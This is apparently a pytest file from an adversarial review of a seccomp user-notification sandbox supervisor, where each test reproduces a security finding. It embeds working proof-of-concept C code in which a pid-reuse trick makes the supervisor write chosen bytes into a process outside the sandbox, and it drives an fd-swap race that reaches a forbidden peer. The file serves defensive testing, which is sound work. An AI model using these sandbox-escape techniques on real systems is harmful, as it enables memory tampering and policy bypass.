"""An adversarial review of the seccomp user-notification supervisor (a8409f3: CONTINUE only for
the one task of its thread group, other calls performed, unix ones from the caller's place).
Each test fails while its finding is open.

- A dead caller's pid, reused by a process outside the sandbox, receives what the supervisor
  does after a blocking call it performed: sendmmsg's msg_len is written into that process's
  memory (process_vm_writev, which the sandbox itself may not use), SIGPIPE is sent to it.
- The thread count is read from /proc/PID/stat with PID in the supervisor's pid namespace:
  where the /proc mounted is another pid namespace's, it counts another task, and a caller with
  other threads gets CONTINUE: the fd-swap race of gap 10 is open again.
- Wrong results of performed unix calls: SIGPIPE raised for a SOCK_SEQPACKET EPIPE (the kernel
  raises none: the program dies), and /proc/self in a unix path names the supervisor.
- A caller that made itself non-dumpable (ssh-agent, gpg-agent do) cannot send anything: every
  pidfd_getfd of its socket is refused to the unprivileged supervisor.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from attacks.harness import (
    EMPTY_NETNS,
    FORBIDDEN_PEER,
    NOBODY,
    PORT,
    SETPRIV_NOBODY,
    Peer,
    as_nobody,
    binaries,
    peer_netns,
)

from conftest import REPO, needs_root

pytestmark = needs_root

PYTHON = shutil.which("python3", path="/usr/bin:/bin") or "python3"
NET_ONLY = ["--allowed-netmask=127.0.0.0/8"]


def secfilt_as_nobody(policy: list[str]) -> list[str]:
    """argv prefix: secfilt run by nobody (the supervisor holds the destination rules)."""
    return [*as_nobody(), "HOME=/nonexistent", PYTHON, "-m", "secfilt_runtime.secfilt_cli",
            *policy, "--"]


@pytest.fixture
def shared_dir() -> Iterator[Path]:
    """A directory nobody can use (pytest's tmp_path is root's 0700)."""
    d = Path(tempfile.mkdtemp(prefix="secfilt-review-"))
    d.chmod(0o777)
    try:
        yield d
    finally:
        shutil.rmtree(d, ignore_errors=True)


def build(src: str, out: Path) -> Path:
    c = out.with_suffix(".c")
    c.write_text(src)
    subprocess.run(["gcc", "-static", "-O2", "-pthread", "-Wall", "-o", str(out), str(c)],
                   check=True, capture_output=True)
    out.chmod(0o755)
    return out


# --- 1. a dead caller's pid -----------------------------------------------------------------

VICTIM = r'''
/* a process outside the sandbox, of the same user: a page at a fixed address, watched */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>
int main(int argc, char **argv)
{
    unsigned long target = strtoul(argv[1], 0, 0);
    void *page = (void *)(target & ~4095UL);
    if (mmap(page, 8192, PROT_READ | PROT_WRITE,
             MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0) != page)
        return 2;
    volatile unsigned int *t = (volatile unsigned int *)target;
    printf("victim %d\n", getpid());
    fflush(stdout);
    struct timespec tick = {0, 10 * 1000 * 1000};
    for (int i = 0; i < atoi(argv[2]) * 100; i++, nanosleep(&tick, 0))
        if (*t) {
            printf("victim: written: %#x\n", *t);
            return 0;
        }
    printf("victim: untouched\n");
    return 1;
}
'''

PIDREUSE = r'''
/* A child with two threads calls sendmmsg on a full unix stream socket: the supervisor
 * performs it and blocks. The child is killed and reaped, and its pid given to the next process
 * made (here the test sets ns_last_pid; the sandbox can as well fork through the pid space,
 * ~10 s for a pid_max of 32768, while the supervisor waits as long as nobody drains). Then the
 * data is drained: the supervisor writes msg_len, the count sent, at the vector's address, in
 * whatever process holds the pid now. */
#define _GNU_SOURCE
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static void *idle(void *a) { (void)a; pause(); return 0; }
static char data[1 << 16];

int main(int argc, char **argv)
{
    unsigned long target = strtoul(argv[1], 0, 0);
    unsigned long vec = target - 56;                    /* msg_len is at +56 */
    void *page = (void *)(vec & ~4095UL);
    if (mmap(page, 8192, PROT_READ | PROT_WRITE,
             MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0) != page)
        return 2;
    struct iovec *iov = (struct iovec *)((char *)page + 4096 + 512);
    iov->iov_base = data;
    iov->iov_len = strtoul(argv[2], 0, 0);
    struct mmsghdr *m = (struct mmsghdr *)vec;
    m->msg_hdr.msg_iov = iov;
    m->msg_hdr.msg_iovlen = 1;
    int sv[2], small = 4096;
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv))
        return 2;
    setsockopt(sv[0], SOL_SOCKET, SO_SNDBUF, &small, sizeof small);
    while (send(sv[0], data, 4096, MSG_DONTWAIT) > 0)  /* no address: not supervised */
        ;
    pid_t child = fork();
    if (child == 0) {
        pthread_t t;
        pthread_create(&t, 0, idle, 0);                 /* not alone: performed */
        sendmmsg(sv[0], m, 1, 0);
        _exit(0);
    }
    sleep(1);
    kill(child, SIGKILL);
    waitpid(child, 0, 0);
    printf("freed %d\n", child);
    fflush(stdout);
    struct stat st;
    while (stat(argv[3], &st) != 0)
        usleep(10000);
    char buf[65536];
    for (int i = 0; i < 200; i++, usleep(10000))
        while (recv(sv[1], buf, sizeof buf, MSG_DONTWAIT) > 0)
            ;
    return 0;
}
'''

INNER = r'''
import os, subprocess, sys
secfilt, pidreuse, victim, go = sys.argv[1].split("\x1f"), sys.argv[2], sys.argv[3], sys.argv[4]
target, value = "0x5a5a0000100", "0x1337"
att = subprocess.Popen([*secfilt, pidreuse, target, value, go], stdout=subprocess.PIPE, text=True)
for line in att.stdout:
    if line.startswith("freed "):
        with open("/proc/sys/kernel/ns_last_pid", "w") as f:
            f.write(str(int(line.split()[1]) - 1))
        v = subprocess.Popen([*sys.argv[5].split("\x1f"), victim, target, "5"],
                             stdout=subprocess.PIPE, text=True)
        open(go, "w").close()
        print("freed", line.split()[1], "victim", v.communicate()[0].strip().replace("\n", "; "))
att.wait()
'''


def test_a_dead_callers_pid_gets_no_write_from_the_supervisor(shared_dir: Path) -> None:
    """The supervisor looks the caller up by pid again after a performed call returns (the
    msg_len of sendmmsg, SIGPIPE) without checking that the pid is still the caller's: a
    sandboxed process that gets its blocked caller killed, and the pid to another process of the
    same user, has the supervisor write 4 bytes of its choice at an address of its choice in
    that process. Run in a pid namespace of its own so that the pid can be handed over."""
    victim = build(VICTIM, shared_dir / "victim")
    pidreuse = build(PIDREUSE, shared_dir / "pidreuse")
    inner = shared_dir / "inner.py"
    inner.write_text(INNER)
    argv = ["unshare", "-p", "-f", "--mount-proc", PYTHON, str(inner),
            "\x1f".join(secfilt_as_nobody(NET_ONLY)), str(pidreuse), str(victim),
            str(shared_dir / "go"), "\x1f".join(SETPRIV_NOBODY)]
    p = subprocess.run(argv, capture_output=True, text=True, timeout=120,
                       env=dict(os.environ, PYTHONPATH=str(REPO / "runtime")))
    assert "freed" in p.stdout and "victim" in p.stdout, p.stdout + p.stderr
    pid = p.stdout.split()[1]
    assert f"victim {pid}" in p.stdout, f"the pid was not handed over:\n{p.stdout}"
    assert "written" not in p.stdout, \
        f"BYPASS: the supervisor wrote into a process outside the sandbox:\n{p.stdout}"


# --- 2. a /proc of another pid namespace ------------------------------------------------------


@pytest.fixture
def peer(tmp_path: Path) -> Iterator[Peer]:
    with peer_netns(tmp_path) as p:
        yield p


def test_fd_swap_race_where_proc_is_another_pid_namespaces(peer: Peer) -> None:
    """secfilt started in a pid namespace whose /proc was not mounted anew (`unshare -p -f`
    without --mount-proc): the notification's pid is the namespace's, /proc/PID/stat another
    task's (here a kernel thread's, one thread), so a caller with other threads was answered
    CONTINUE and the swap of test_fd_swap_race reached the forbidden peer again. secfilt now
    refuses to start where /proc is not its pid namespace's (the tracer too would read other
    processes' paths)."""
    def run(policy: list[str] | None) -> subprocess.CompletedProcess:
        peer.record.write_text("")
        inner = secfilt_as_nobody(policy) if policy else as_nobody()
        # unprivileged: nobody's own user and pid namespaces, /proc left as it was
        cut = inner.index("env")
        argv = ["nsenter", f"--net=/proc/{peer.pid}/ns/net", *inner[:cut],
                "unshare", "-U", "-r", "-p", "-f", *inner[cut:],
                str(binaries() / "net"), "fd_swap", FORBIDDEN_PEER, str(PORT), "2"]
        return subprocess.run(argv, capture_output=True, text=True, timeout=120)

    bare = run(None)
    assert "attack-start" in bare.stdout, bare
    assert peer.received(FORBIDDEN_PEER), "the race does not work without a policy"
    out = run(NET_ONLY)
    got = peer.received(FORBIDDEN_PEER)
    assert not got, f"BYPASS: {len(got)} datagrams reached the forbidden peer"
    assert out.returncode != 0 and "/proc shows another pid namespace" in out.stderr, out
    assert "attack-start" not in out.stdout, out


# --- 3. wrong results of performed calls ------------------------------------------------------

PROGRAM = r'''
import ctypes, json, os, signal, socket, sys, threading
threading.Thread(target=threading.Event().wait, daemon=True).start()  # not alone
what = sys.argv[1]
if what == "seqpacket":
    # SIGPIPE as a program gets it (Python ignores it): the kernel raises none for a
    # SOCK_SEQPACKET EPIPE, only for SOCK_STREAM
    signal.signal(signal.SIGPIPE, signal.SIG_DFL)
    a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    a.shutdown(socket.SHUT_WR)
    try:
        a.sendmsg([b"x"])
    except BrokenPipeError:
        print(json.dumps("EPIPE"))
elif what == "proc-self":
    # systemd's connect_unix_path(): a path too long for sun_path is reached as
    # /proc/self/fd/DIRFD/NAME
    os.chdir(sys.argv[2])
    got = {}
    for name, via in (("fd", "/proc/self/fd/{d}/r.sock"), ("cwd", "/proc/self/cwd/r.sock")):
        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as rx:
            rx.bind("r.sock")
            d = os.open(".", os.O_PATH | os.O_DIRECTORY)
            try:
                with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as s:
                    s.sendto(name.encode(), via.format(d=d))
                got[name] = rx.recv(10).decode()
            except OSError as e:
                got[name] = type(e).__name__
            os.close(d)
            os.unlink("r.sock")
    print(json.dumps(got))
elif what == "non-dumpable":
    ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE 0, as ssh-agent does
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as rx, \
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        rx.bind(("127.0.0.1", 0))
        try:
            s.sendto(b"x", rx.getsockname())
            print(json.dumps(rx.recv(10).decode()))
        except OSError as e:
            print(json.dumps(type(e).__name__))
'''


def both_ways(shared_dir: Path, *args: str, policy: list[str] = NET_ONLY
              ) -> tuple[subprocess.CompletedProcess, subprocess.CompletedProcess]:
    """The program as nobody in an empty network namespace, bare then under secfilt."""
    program = shared_dir / "program.py"
    program.write_text(PROGRAM)
    runs = []
    for prefix in (as_nobody(), secfilt_as_nobody(policy)):
        argv = [*EMPTY_NETNS, *prefix, PYTHON, str(program), *args]
        runs.append(subprocess.run(argv, capture_output=True, text=True, timeout=60,
                                   cwd=shared_dir,
                                   env=dict(os.environ, PYTHONPATH=str(REPO / "runtime"))))
    return runs[0], runs[1]


def test_a_seqpacket_epipe_raises_no_sigpipe(shared_dir: Path) -> None:
    """Call.after sends SIGPIPE for EPIPE on SOCK_STREAM and SOCK_SEQPACKET; the kernel
    (unix_dgram_sendmsg, which seqpacket sends go through) sends none: under the supervisor
    a program with the default disposition is killed where it would have got EPIPE."""
    bare, supervised = both_ways(shared_dir, "seqpacket")
    assert bare.returncode == 0 and json.loads(bare.stdout) == "EPIPE", bare
    assert supervised.returncode == bare.returncode, \
        f"killed by a SIGPIPE the kernel does not send: {supervised}"
    assert supervised.stdout == bare.stdout


def test_proc_self_in_a_unix_path_is_the_callers(shared_dir: Path) -> None:
    """from_callers_place resolves the path in the supervisor's thread: /proc/self there is
    the supervisor (another descriptor table, another working directory), so a path through
    /proc/self/fd/N (systemd's way to long socket paths) or /proc/self/cwd misses, or names
    a directory the supervisor holds."""
    inner = shared_dir / "inner"
    inner.mkdir()
    os.chown(inner, NOBODY, NOBODY)
    bare, supervised = both_ways(shared_dir, "proc-self", str(inner))
    assert json.loads(bare.stdout) == {"fd": "fd", "cwd": "cwd"}, bare
    assert supervised.stdout == bare.stdout, supervised


@pytest.mark.xfail(strict=True, reason=(
    "known limit (docs/security.md gap 10): a user's supervisor may not take a non-dumpable "
    "caller's socket; its supervised calls fail with EPERM (closed, never open)"))
def test_a_non_dumpable_caller_can_still_send(shared_dir: Path) -> None:
    """prctl(PR_SET_DUMPABLE, 0) makes pidfd_getfd (PTRACE_MODE_ATTACH) of the caller's
    socket fail for a supervisor without CAP_SYS_PTRACE: every connect/sendto/sendmsg of such
    a program fails with EPERM, loopback included, under any destination rule (secfilt run by
    a user without write rules: no user namespace whose owner the supervisor is)."""
    bare, supervised = both_ways(shared_dir, "non-dumpable")
    assert json.loads(bare.stdout) == "x", bare
    assert supervised.stdout == bare.stdout, supervised
